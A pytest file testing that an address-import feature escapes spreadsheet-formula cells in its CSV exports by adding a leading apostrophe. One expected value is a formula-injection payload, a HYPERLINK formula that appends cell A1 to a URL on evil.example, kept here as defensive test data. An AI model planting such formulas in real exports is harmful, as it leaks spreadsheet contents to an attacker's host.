"""Exports: nothing a user uploaded can run as a spreadsheet formula when it comes back out."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest

from app.address_import import ImportResult, invalid_rows_csv, safe_cell


@pytest.mark.parametrize("value", ["=1+1", "+44 20", "-5", "@SUM(A1)", "\tx", "\rx", "\0x"])
def test_formula_like_cell_gets_a_leading_apostrophe(value: str):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "anna@example.com", "Zoë", " =1+1", "'quoted", "1-2"])
def test_ordinary_cell_is_unchanged(value: str):
    assert safe_cell(value) == value


def test_invalid_rows_csv_lists_row_value_and_reason(import_fixture: Callable[..., ImportResult]):
    rows = list(csv.reader(io.StringIO(invalid_rows_csv(import_fixture("duplicates_and_invalid.csv")))))
    assert rows == [
        ["Row", "Value", "Reason"],
        ["5", "bob@@example.com", "The part after the @-sign contains invalid characters: '@'."],
        ["6", "", "There is no address in this row."],
        ["7", "carol@example", "The part after the @-sign is not valid. It should have a period."],
    ]


def test_invalid_rows_csv_escapes_formula_cells(import_fixture: Callable[..., ImportResult]):
    rows = list(csv.reader(io.StringIO(invalid_rows_csv(import_fixture("formula_cells.csv")))))
    assert [row[1] for row in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1)',
        "'+x@example.com",
        "'@example.com",
        "'-x@example.com",
    ]
